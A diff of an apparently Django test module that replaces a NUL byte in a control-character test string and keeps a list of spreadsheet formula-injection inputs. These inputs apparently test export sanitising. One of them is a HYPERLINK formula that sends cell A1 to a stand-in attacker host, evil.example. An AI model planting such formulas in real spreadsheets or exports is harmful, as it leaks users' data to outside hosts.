@@ -42,7 +42,7 @@ from .test_statistics import SOURCE
 pytestmark = pytest.mark.django_db
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
-CONTROL = "第一段\x01第二段\x0b第三段\x00完"
+CONTROL = "第一段\x01第二段\x0b第三段\x1f完"  # what old rows can hold on both databases (PostgreSQL refuses NUL)
 
 
 def sheet_xml(data: bytes, part: str = "xl/worksheets/sheet1.xml") -> str:
